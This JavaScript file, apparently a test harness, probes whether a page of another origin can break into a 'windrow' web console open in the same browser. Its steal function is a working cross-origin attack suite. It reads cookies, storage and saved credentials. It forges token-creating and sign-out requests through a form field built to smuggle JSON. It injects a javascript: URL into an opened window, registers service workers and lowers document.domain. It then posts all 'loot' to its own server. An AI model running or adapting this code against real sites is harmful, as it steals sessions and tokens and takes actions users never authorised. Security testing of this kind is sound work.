// What a page of another origin can try against the console of the same browser. Each try answers with what it got.
// `ours` is this page's own server: whatever a try gets is sent there as well, so that the server's log shows all loot.

const WAIT_MS = 700;

const soon = (work) => Promise.race([work, new Promise((done) => setTimeout(() => done("nothing in time"), WAIT_MS))]);

async function outcome(work) {
  try {
    const got = await soon(Promise.resolve().then(work));
    return typeof got === "string" ? got : JSON.stringify(got) ?? "undefined";
  } catch (failure) {
    return `refused: ${failure.name}: ${failure.message}`;
  }
}

const read = async (answer) => {
  const got = await answer;
  return `${got.type} ${got.status} ${await got.text()}`;
};

/** A frame, closed again; `look` gets its window once it has loaded or failed. */
function framed(url, look, name = "") {
  return new Promise((done) => {
    const frame = document.createElement("iframe");
    frame.name = name;
    frame.onload = () => outcome(() => look(frame)).then((got) => { frame.remove(); done(got); });
    frame.src = url;
    document.body.append(frame);
  });
}

function posted(action, enctype) {
  return new Promise((done) => {
    const form = document.createElement("form");
    const field = document.createElement("input");
    const frame = document.createElement("iframe");
    Object.assign(form, { method: "post", action, enctype, target: "sink" });
    Object.assign(field, { name: '{"name":"stolen","x":"', value: '"}' });
    frame.name = "sink";
    document.body.append(frame, form);
    form.append(field);
    form.submit();
    setTimeout(() => { const got = outcome(() => frame.contentDocument.body.innerText); frame.remove(); form.remove(); done(got); }, WAIT_MS);
  });
}

function tagged(tag, attributes) {
  return new Promise((done) => {
    const one = document.createElement(tag);
    one.onload = () => done(`loaded ${tag}: ${[...document.styleSheets].length} sheets, ${JSON.stringify(window.loot ?? null)}`);
    one.onerror = () => done(`refused: ${tag}`);
    Object.assign(one, attributes);
    document.head.append(one);
  });
}

function listened(start, events) {
  return new Promise((done) => {
    const source = start();
    for (const name of events) source[`on${name}`] = (event) => { done(`${name} ${event.data ?? ""}`); source.close?.(); };
  });
}

/** Everything that this page is told within a while after `say`. */
function overheard(target, say) {
  return new Promise((done) => {
    const told = [];
    target.addEventListener("message", (event) => told.push(JSON.stringify(event.data)));
    say();
    setTimeout(() => done(told), WAIT_MS);
  });
}

async function opened(url, look) {
  const other = window.open(url, "console");
  await new Promise((done) => setTimeout(done, WAIT_MS));
  const got = await outcome(() => look(other));
  other?.close();
  return got;
}

const CALLS = [["GET", "/api/v1/me"], ["GET", "/api/v1/tokens"], ["POST", "/api/v1/tokens"], ["DELETE", "/api/v1/session"], ["POST", "/api/v1/join-tokens"], ["PUT", "/api/v1/offers/cpu"]];

/** Once more where Chromium dropped it, as it does with all that is under way when a network address changes. */
const sendHome = async (loot, tries = 5) => {
  try {
    await fetch("/loot", { method: "POST", body: JSON.stringify(loot), credentials: "include" });
  } catch (failure) {
    if (tries === 1) throw failure;
    await sendHome(loot, tries - 1);
  }
};

window.steal = async (master) => {
  const body = JSON.stringify({ name: "stolen" });
  const tries = {
    "cookies": () => document.cookie,
    "storage": () => ({ ...localStorage, ...sessionStorage }),
    "window.name": () => window.name,
    "referrer": () => document.referrer,
    "opener": () => String(window.opener),
    "history": () => history.length && JSON.stringify(history.state),
    "databases": async () => (await indexedDB.databases()).map((one) => one.name),
    "caches": async () => ("caches" in window ? await caches.keys() : []),
    "credentials": async () => (navigator.credentials ? await navigator.credentials.get({ password: true, mediation: "silent" }) : null),
    "broadcast channel": () => { const one = new BroadcastChannel("windrow.session"); return overheard(one, () => one.postMessage({ ask: true })); },
    "storage event": () => new Promise((done) => { window.addEventListener("storage", (event) => done(event.newValue)); }),
    "EventSource": () => listened(() => new EventSource(`${master}/api/v1/events/stream`, { withCredentials: true }), ["open", "message", "error"]),
    "WebSocket": () => listened(() => new WebSocket(`${master.replace("http", "ws")}/api/v1/events/stream`), ["open", "message", "error"]),
    "script": () => tagged("script", { src: `${master}/api/v1/me` }),
    "style": () => tagged("link", { rel: "stylesheet", href: `${master}/api/v1/me` }),
    "image": () => tagged("img", { src: `${master}/api/v1/me`, crossOrigin: "use-credentials" }),
    "the console's script": () => tagged("script", { src: `${master}/`, type: "module" }),
    "service worker of the console": () => navigator.serviceWorker.register(`${master}/worker.js`, { scope: `${master}/` }),
    "own service worker": () => navigator.serviceWorker.register("/worker.js", { scope: "/" }).then((one) => one.scope),
    "shared worker": () => String(new SharedWorker(`${master}/assets/main.js`)),
    "beacon": () => String(navigator.sendBeacon(`${master}/api/v1/tokens`, body)),
    "form": () => posted(`${master}/api/v1/tokens`, "text/plain"),
    "form to sign out": () => posted(`${master}/api/v1/session`, "application/x-www-form-urlencoded"),
    "frame": () => framed(`${master}/fleet`, (frame) => frame.contentWindow.sessionStorage.getItem("windrow.session")),
    "frame by document": () => framed(`${master}/fleet`, (frame) => frame.contentDocument.documentElement.innerHTML),
    "frame asked by message": () => framed(`${master}/fleet`, (frame) => overheard(window, () => frame.contentWindow.postMessage({ ask: true }, "*"))),
    "window": () => opened(`${master}/fleet`, (other) => other.sessionStorage.getItem("windrow.session")),
    "window by document": () => opened(`${master}/fleet`, (other) => other.document.documentElement.innerHTML),
    "window asked by message": () => opened(`${master}/fleet`, (other) => overheard(window, () => other.postMessage({ ask: true }, "*"))),
    "window turned into a script": () => opened(`${master}/fleet`, (other) => { other.location = "javascript:opener.postMessage(sessionStorage,'*')"; return overheard(window, () => undefined); }),
    "domain lowered": () => { document.domain = location.hostname.split(".").slice(-2).join("."); return document.domain; },
  };
  for (const [method, path] of CALLS) {
    for (const mode of ["cors", "no-cors", "same-origin"]) {
      for (const headers of [{}, { "Content-Type": "text/plain" }, { Authorization: "Bearer null", "X-Windrow-CSRF": "1" }]) {
        const sent = { method, mode, headers, credentials: "include", keepalive: true, redirect: "follow", ...(method === "GET" || method === "DELETE" ? {} : { body }) };
        tries[`${method} ${path} ${mode} ${Object.keys(headers)[0] ?? "plain"}`] = () => read(fetch(master + path, sent));
      }
    }
  }
  tries["XMLHttpRequest"] = () => new Promise((done) => {
    const one = new XMLHttpRequest();
    one.open("GET", `${master}/api/v1/me`);
    one.withCredentials = true;
    one.onloadend = () => done(`${one.status} ${one.responseText}`);
    one.send();
  });

  const slow = ["form", "form to sign out", "window", "window by document", "window asked by message", "window turned into a script"];
  const loot = {};
  const quick = Object.entries(tries).filter(([name]) => !slow.includes(name));
  await Promise.all(quick.map(async ([name, work]) => { loot[name] = await outcome(work); }));
  for (const name of slow) loot[name] = await outcome(tries[name]);
  await sendHome(loot);
  return loot;
};
